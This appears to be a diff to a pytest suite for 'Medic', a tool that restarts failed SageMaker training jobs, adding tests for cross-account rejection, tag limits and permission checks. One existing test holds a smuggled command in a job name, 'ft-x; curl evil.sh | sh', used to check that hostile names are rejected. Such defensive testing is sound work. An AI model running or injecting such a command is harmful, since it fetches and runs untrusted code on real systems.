@@ -66,6 +66,7 @@ class Training:
 
 @pytest.fixture
 def world(medic):
+    medic.deps.account = "123456789012"  # the deploying account, as dependencies() reads it from the topic ARN
     return medic, Training()
 
 
@@ -215,7 +216,8 @@ def test_a_job_without_checkpoint_config_pages(world, failed_event):
 
 
 def test_config_may_allow_a_restart_without_checkpoint(aws_credentials, failed_event):
-    config = parse_config({**CONFIG, "training_jobs": [{"prefix": "ft-", "allow_restart_without_checkpoint": True}]})
+    config = parse_config({**CONFIG, "training_jobs": [{**CONFIG["training_jobs"][0],
+                                                         "allow_restart_without_checkpoint": True}]})
     for medic in medic_world(config):
         training = Training()
         training.job(JOB, checkpoint=None)
@@ -252,3 +254,92 @@ def test_a_hostile_job_name_is_rejected(world, failed_event):
     medic, _ = world
     record = handle(medic, failure(failed_event, name="ft-x; curl evil.sh | sh"))
     assert (record["outcome"], record["trigger"]) == ("rejected", "job_state")
+
+
+@pytest.mark.parametrize(("arn", "named"), [
+    ("arn:aws:sagemaker:us-west-2:210987654321:training-job/ft-mistral-7b-0042", "account 210987654321"),
+    ("arn:aws:sagemaker:eu-west-1:123456789012:training-job/ft-mistral-7b-0042", "region eu-west-1"),
+])
+def test_a_training_job_event_naming_another_account_or_region_is_rejected_without_a_call(world, failed_event,
+                                                                                           arn, named):
+    medic, training = world
+    training.job(JOB)
+    training.checkpoint_saved()
+    event = copy.deepcopy(failed_event)
+    event["detail"]["TrainingJobArn"] = arn
+    # Given Medic's SageMaker answers nothing: any call would fail the test
+    medic.deps.training.tags = medic.deps.training.describe = lambda *_: pytest.fail("called SageMaker")
+    record = handle(medic, event)
+    # Then the event is rejected naming the foreign account or region, nothing is created, nobody is paged
+    assert (record["outcome"], record["action"], record["fault"]) == ("rejected", "none", "invalid")
+    assert named in record["reason"]
+    assert training.names() == [JOB] and medic.pages() == []
+
+
+def test_a_job_with_48_tags_is_restarted_within_sagemakers_50(world, failed_event):
+    medic, training = world
+    # Given a job with 47 tags of its own plus "team" (48)
+    training.job(JOB, tags={f"cost-{k:02d}": "x" for k in range(47)})
+    training.checkpoint_saved()
+    record = handle(medic, failed_event)
+    # Then the restart carries them and Medic's two required tags (restarted-from would make 51, which
+    # CreateTrainingJob refuses)
+    assert record["outcome"] == "executed"
+    tags = training.tags(f"{JOB}-r1")
+    assert len(tags) == 50
+    assert (tags["medic:lineage"], tags["medic:attempt"]) == (JOB, "1") and "medic:restarted-from" not in tags
+
+
+def test_a_job_whose_tags_leave_no_room_for_medics_pages_instead_of_restarting(world, failed_event):
+    medic, training = world
+    training.job(JOB, tags={f"cost-{k:02d}": "x" for k in range(48)})  # 49 with "team": 51 with Medic's two
+    training.checkpoint_saved()
+    record = handle(medic, failed_event)
+    assert (record["outcome"], record["paged"]) == ("suppressed", True)
+    assert "50" in record["reason"]
+    assert training.names() == [JOB]
+
+
+def test_a_job_on_a_training_plan_medic_may_not_use_pages_instead_of_failing_on_access_denied(world, failed_event):
+    medic, training = world
+    training.job(JOB)
+    training.checkpoint_saved()
+    plan = "arn:aws:sagemaker:us-west-2:123456789012:training-plan/p5-december"
+    describe = medic.deps.training.describe
+
+    def on_a_plan(name):
+        description = describe(name)
+        description["ResourceConfig"]["TrainingPlanArn"] = plan
+        return description
+    medic.deps.training.describe = on_a_plan
+    # Given the job ran on a training plan the config does not list (IAM grants CreateTrainingJob on listed plans)
+    record = handle(medic, failed_event)
+    # Then Medic pages naming the plan and the key that lets it restart such jobs
+    assert (record["outcome"], record["paged"]) == ("suppressed", True)
+    assert plan in record["reason"] and "training_jobs.training_plans" in record["reason"]
+    assert training.names() == [JOB]
+
+
+def test_a_job_running_as_a_role_medic_may_not_pass_pages_instead_of_failing_on_access_denied(world, failed_event):
+    medic, training = world
+    training.job(JOB)
+    training.checkpoint_saved()
+    describe = medic.deps.training.describe
+    medic.deps.training.describe = lambda name: {**describe(name),
+                                                 "RoleArn": "arn:aws:iam::123456789012:role/AdminRole"}
+    # Given the job's execution role is not in training_jobs.role_arns (IAM lets Medic pass only those)
+    record = handle(medic, failed_event)
+    # Then nothing is created and the page names the role and the key
+    assert (record["outcome"], record["paged"]) == ("suppressed", True)
+    assert "role/AdminRole" in record["reason"] and "training_jobs.role_arns" in record["reason"]
+    assert training.names() == [JOB]
+
+
+def test_a_checkpoint_in_a_bucket_medic_may_not_list_pages_instead_of_failing_on_access_denied(world, failed_event):
+    medic, training = world
+    training.job(JOB, checkpoint="s3://other-team-bucket/ckpt/")
+    # Given the job checkpoints to a bucket not in training_jobs.checkpoint_buckets (IAM: ListBucket on those only)
+    record = handle(medic, failed_event)
+    assert (record["outcome"], record["paged"]) == ("suppressed", True)
+    assert "other-team-bucket" in record["reason"] and "training_jobs.checkpoint_buckets" in record["reason"]
+    assert training.names() == [JOB]
